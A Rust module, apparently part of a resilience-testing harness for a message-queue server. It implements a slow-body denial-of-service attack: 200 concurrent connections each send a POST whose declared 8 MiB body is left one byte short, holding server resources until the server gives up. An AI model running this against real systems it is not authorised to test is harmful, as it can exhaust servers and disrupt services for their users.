//! Bodies that are all but sent, from 200 connections at once.

use anyhow::Result;
use async_trait::async_trait;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
};

use super::{Attack, Target};

const CONNECTIONS: usize = 200;
const BYTES: usize = 8 * 1024 * 1024 - 1;

pub(super) struct Bodies;

#[async_trait]
impl Attack for Bodies {
    fn name(&self) -> &'static str {
        "bodies"
    }

    async fn run(&self, target: &Target) -> Result<()> {
        let mut holding = JoinSet::new();
        for _ in 0..CONNECTIONS {
            let target = target.clone();
            holding.spawn(async move {
                while !target.is_over() {
                    drop(hold(&target).await);
                }
            });
        }
        while holding.join_next().await.is_some() {}
        Ok(())
    }
}

/// Sends a body without its last byte, and stays until the server has had enough.
async fn hold(target: &Target) -> Result<()> {
    let mut stream = TcpStream::connect(&target.address).await?;
    let head = format!(
        "POST /v1/queues/attacked/messages HTTP/1.1\r\nHost: {}\r\n\
         Content-Type: application/json\r\nContent-Length: {BYTES}\r\n\r\n",
        target.address
    );
    stream.write_all(head.as_bytes()).await?;
    let piece = vec![b' '; 64 * 1024];
    let mut left = BYTES - 1;
    while left > 0 {
        let length = left.min(piece.len());
        stream.write_all(&piece[..length]).await?;
        left -= length;
    }
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await?;
    Ok(())
}
